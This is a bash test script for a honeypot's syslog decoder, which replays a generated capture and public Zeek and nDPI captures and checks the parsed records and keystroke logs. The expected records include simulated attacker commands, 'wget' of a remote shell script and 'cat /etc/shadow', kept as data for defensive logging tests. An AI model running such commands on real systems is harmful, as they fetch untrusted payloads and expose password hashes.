#!/bin/bash
# Syslog on the wire (syslog.jsonl, keystrokes.jsonl): a generated capture
# (tests/gen/mkpcap.py "syslog": UDP from the honeypot with a bash
# PROMPT_COMMAND line and an RFC 5424 message, UDP from outside to the
# honeypot (ignored), RFC 6587 TCP in 20-byte segments through the "syslog"
# session analyser), exact records; then public captures (skipped when
# ../shared/testdata is absent) replayed with the senders as honeypots:
# Zeek syslog-single-udp, tcp-syslog, tcp-syslog-nontransparent,
# syslog-missing-pri and fake-syslog-with-padding against the facility,
# severity and message of their syslog.log baselines (Ethernet padding is
# not message bytes), and nDPI syslog.pcap: per flow, as many messages as
# nDPI's result counts packets.
. "$(dirname "$0")/../gen/replaylib.sh"
need_fishbowl

S='sum(D("syslog.jsonl").values(), [])'

gen syslog "$WORK/syslog.pcap"
cfg=$(conf gen <<'EOF_'
[honeynet]
networks = 10.0.0.0/24
EOF_
)
replay gen "$cfg" "$WORK/syslog.pcap"
want=$(cat <<'EOF_'
{"ts":"2026-11-26T08:00:00.000000Z","source":"wire","transport":"udp","peer":"10.0.0.5","peer_port":40514,"dst":"192.0.2.50","dst_port":514,"format":"rfc3164","pri":13,"facility":"user","severity":"notice","timestamp":"Nov 26 08:00:00","host":"hp","app":"root","msg":"root [4242]: wget http://203.0.113.7/x.sh [0]","command":"wget http://203.0.113.7/x.sh","raw":"<13>Nov 26 08:00:00 hp root: root [4242]: wget http://203.0.113.7/x.sh [0]"}
{"ts":"2026-11-26T08:00:00.010000Z","source":"wire","transport":"udp","peer":"10.0.0.5","peer_port":40514,"dst":"192.0.2.50","dst_port":514,"format":"rfc5424","pri":165,"facility":"local4","severity":"notice","timestamp":"2026-11-26T08:00:00.010Z","host":"hp","app":"app","procid":"7","msgid":"ID47","sd":"[ex@32473 k=\"v\\\"q\"]","msg":"hello","raw":"<165>1 2026-11-26T08:00:00.010Z hp app 7 ID47 [ex@32473 k=\"v\\\"q\"] ﻿hello"}
{"ts":"2026-11-26T08:00:01.029000Z","source":"wire","transport":"tcp","peer":"10.0.0.5","peer_port":40515,"dst":"192.0.2.50","dst_port":514,"format":"rfc5424","pri":86,"facility":"authpriv","severity":"info","timestamp":"2026-11-26T08:00:01Z","host":"hp","app":"bash","procid":"99","msg":"HISTORY: PID=99 UID=0 cat /etc/shadow","command":"cat /etc/shadow","raw":"<86>1 2026-11-26T08:00:01Z hp bash 99 - - HISTORY: PID=99 UID=0 cat /etc/shadow"}
{"ts":"2026-11-26T08:00:01.029000Z","source":"wire","transport":"tcp","peer":"10.0.0.5","peer_port":40515,"dst":"192.0.2.50","dst_port":514,"format":"rfc3164","pri":38,"facility":"auth","severity":"info","timestamp":"Nov 26 08:00:02","host":"hp","app":"sshd","procid":"7","msg":"Accepted password for root","raw":"<38>Nov 26 08:00:02 hp sshd[7]: Accepted password for root"}
EOF_
)
check_eq "syslog.jsonl: exact records (the outsider's datagram is not one)" "$want" \
    "$(cat "$WORK"/gen/*/syslog.jsonl)"
want=$(cat <<'EOF_'
{"ts":"2026-11-26T08:00:00.000000Z","start":"2026-11-26T08:00:00.000000Z","honeypot":"10.0.0.5","source":"syslog","line":"wget http://203.0.113.7/x.sh","raw":"root [4242]: wget http://203.0.113.7/x.sh [0]"}
{"ts":"2026-11-26T08:00:01.029000Z","start":"2026-11-26T08:00:01.029000Z","honeypot":"10.0.0.5","source":"syslog","line":"cat /etc/shadow","raw":"HISTORY: PID=99 UID=0 cat /etc/shadow"}
EOF_
)
check_eq "keystrokes.jsonl: the PROMPT_COMMAND and SYSLOG_HISTORY lines" "$want" \
    "$(cat "$WORK"/gen/*/keystrokes.jsonl)"
check_eq "the TCP connection's protocol is syslog" "syslog" \
    "$(q gen 'rows(sum(D("sessions.jsonl").values(), []), "protocol")')"

if [ ! -d "$TESTDATA" ]; then
	skip "public syslog captures" "no test data in $TESTDATA"
	done_testing
	exit 0
fi

# Our records against a Zeek syslog.log baseline: "FACILITY SEVERITY
# message" a line (Zeek's message is what follows the PRI; its \xNN
# escapes decoded; UNSPECIFIED when there is no PRI).
zeek_cmp() {	# zeek_cmp NAME BASELINE_DIR
	python3 - "$WORK/$1" "$TESTDATA/zeek-traces/baselines/$2/syslog.log" <<'EOF_'
import glob, json, re, sys
ours = []
for f in sorted(glob.glob(sys.argv[1] + "/*/syslog.jsonl")):
    for line in open(f, encoding="utf-8"):
        r = json.loads(line)
        msg = re.sub(r"^<\d{1,3}>", "", r["raw"], count=1) if "pri" in r else r["raw"]
        ours.append("%s %s %s" % (r.get("facility", "unspecified").upper(),
                                  r.get("severity", "unspecified").upper(), msg))
theirs = []
for line in open(sys.argv[2], encoding="utf-8"):
    if line.startswith(("#", "ts\t")):
        continue
    f = line.rstrip("\n").split("\t")
    msg = re.sub(r"\\x([0-9a-fA-F]{2})", lambda m: chr(int(m.group(1), 16)), f[9])
    theirs.append("%s %s %s" % (f[7], f[8], msg))
print("same" if ours == theirs else "ours %r, zeek %r" % (ours, theirs))
EOF_
}

# file under zeek-traces/traces   honeypot (the sender)   baseline   messages
while read -r file net base count; do
	[ -n "$file" ] || continue
	name=$(basename "$file" .pcap | tr -c 'A-Za-z0-9\n' _)
	if [ ! -f "$TESTDATA/zeek-traces/traces/$file" ]; then
		skip "$file" "not in $TESTDATA"
		continue
	fi
	cfg=$(conf "$name" <<EOF_
[honeynet]
networks = $net
EOF_
)
	replay "$name" "$cfg" "$TESTDATA/zeek-traces/traces/$file" || continue
	check_eq "$file: $count messages" "$count" "$(q "$name" "len($S)")"
	if [ -f "$TESTDATA/zeek-traces/baselines/$base/syslog.log" ]; then
		check_eq "$file: facility, severity, message as Zeek's $base" same \
		    "$(zeek_cmp "$name" "$base")"
	else
		skip "$file: Zeek baseline" "no $base/syslog.log"
	fi
done <<'LIST'
syslog-single-udp.pcap          127.0.0.1/32        scripts.base.protocols.syslog.trace                         1
tcp-syslog.pcap                 192.168.1.1/32      scripts.base.protocols.syslog.tcp-framing                   4
tcp-syslog-nontransparent.pcap  192.168.1.1/32      scripts.base.protocols.syslog.tcp-framing-nontransparent    2
syslog-missing-pri.pcap         192.168.2.118/32    scripts.base.protocols.syslog.missing-pri                   1
fake-syslog-with-padding.pcap   169.229.152.216/32  core.udp-padding                                            5
LIST

if [ -d "$WORK/syslog_single_udp" ]; then
	check_eq "syslog-single-udp: exact record (LOCAL0.NOTICE, trailing NUL flagged)" \
'{"ts":"2013-04-05T19:56:51.424495Z","source":"wire","transport":"udp","peer":"127.0.0.1","peer_port":57067,"dst":"127.0.0.1","dst_port":514,"format":"rfc3164","pri":133,"facility":"local0","severity":"notice","timestamp":"Apr  5 12:56:51","app":"robin","msg":"Hello, syslog!","flags":["nul"],"raw":"<133>Apr  5 12:56:51 robin: Hello, syslog!\u0000"}' \
	    "$(cat "$WORK"/syslog_single_udp/*/syslog.jsonl)"
fi
if [ -d "$WORK/tcp_syslog" ]; then
	check_eq "tcp-syslog: source wire, transport tcp, peer and ports" \
	    "wire tcp 192.168.1.1 12345 192.168.1.2 514;wire tcp 192.168.1.1 12345 192.168.1.2 514;wire tcp 192.168.1.1 12345 192.168.1.2 514;wire tcp 192.168.1.1 12345 192.168.1.2 514" \
	    "$(q tcp_syslog "rows($S, 'source', 'transport', 'peer', 'peer_port', 'dst', 'dst_port')")"
	check_eq "tcp-syslog: trailing blanks kept, formats" \
	    "'su root' failed  rfc3164;'su root' failed rfc3164;'su bob' failed  rfc3164;'su bob' failed rfc3164" \
	    "$(q tcp_syslog "rows($S, 'msg', 'format')")"
fi
if [ -d "$WORK/syslog_missing_pri" ]; then
	check_eq "syslog-missing-pri: exact record (raw, flagged no_pri)" \
'{"ts":"2019-03-14T17:26:50.781231Z","source":"wire","transport":"udp","peer":"192.168.2.118","peer_port":60786,"dst":"192.168.2.21","dst_port":514,"format":"raw","msg":"This is not really a syslog message #173538 1552584410.781186","flags":["no_pri"],"raw":"This is not really a syslog message #173538 1552584410.781186"}' \
	    "$(cat "$WORK"/syslog_missing_pri/*/syslog.jsonl)"
fi
if [ -d "$WORK/fake_syslog_with_padding" ]; then
	check_eq "fake-syslog-with-padding: 5 one-byte messages, no padding bytes" \
	    "X;X;X;X;X" "$(q fake_syslog_with_padding "rows($S, 'raw')")"
fi

# nDPI syslog.pcap: 22 flows.  Per UDP flow to port 514, as many messages
# as nDPI counts packets, except the flows our decoder does not reach (PPPoE
# from 95.136.242.54, IPv6 in IPv4 from 2001:470:6c:a1::2; DESIGN.md lists
# neither encapsulation); the TCP flow on port 52173 is found by content.
f=ndpi-pcaps/pcap/syslog.pcap
if [ ! -f "$TESTDATA/$f" ] || [ ! -f "$TESTDATA/ndpi-pcaps/result/syslog.pcap.out" ]; then
	skip "$f" "not in $TESTDATA"
else
	cfg=$(conf ndpi <<'EOF_'
[honeynet]
networks = 10.0.0.0/8, 172.16.0.0/12, 192.168.0.0/16
EOF_
)
	replay ndpi "$cfg" "$TESTDATA/$f"
	check_eq "$f: per UDP flow, nDPI's packet count of messages" same "$(python3 - \
	    "$WORK/ndpi" "$TESTDATA/ndpi-pcaps/result/syslog.pcap.out" <<'EOF_'
import collections, glob, json, re, sys
ours = collections.Counter()
for f in glob.glob(sys.argv[1] + "/*/syslog.jsonl"):
    for line in open(f, encoding="utf-8"):
        r = json.loads(line)
        if r["transport"] != "udp":
            continue
        ours["%s %s:%d -> %s:%d" % (r["transport"].upper(), r["peer"], r["peer_port"],
                                   r["dst"], r["dst_port"])] += 1
theirs = collections.Counter()
flows = 0
for line in open(sys.argv[2], encoding="utf-8"):
    m = re.match(r"\s+\d+\s+(UDP) (\S+) -> (\S+) .*\[proto: [\d.]+/Syslog\].*?\[(\d+) pkts/", line)
    if re.match(r"\s+\d+\s+(UDP|TCP) ", line):
        flows += 1
    if not m or m.group(2).startswith(("95.136.242.54:", "[")):
        continue
    if not m.group(3).endswith(":514"):
        continue	# from port 514, not to it: not a message to a collector
    theirs["%s %s -> %s" % (m.group(1), m.group(2), m.group(3))] += int(m.group(4))
if flows != 22:
    print("nDPI lists %d flows, not 22" % flows)
elif ours == theirs:
    print("same")
else:
    print("ours %s, nDPI %s" % (sorted(ours.items()), sorted(theirs.items())))
EOF_
)"
	check_eq "$f: the TCP flow on port 52173 (one LF frame), exact fields" \
	    "tcp rfc5424 22 mail info iPhone7,2 com.dts.freefireth" \
	    "$(q ndpi "rows(sel($S, transport='tcp'), 'transport', 'format', 'pri', 'facility', 'severity', 'host', 'app')")"
fi
done_testing
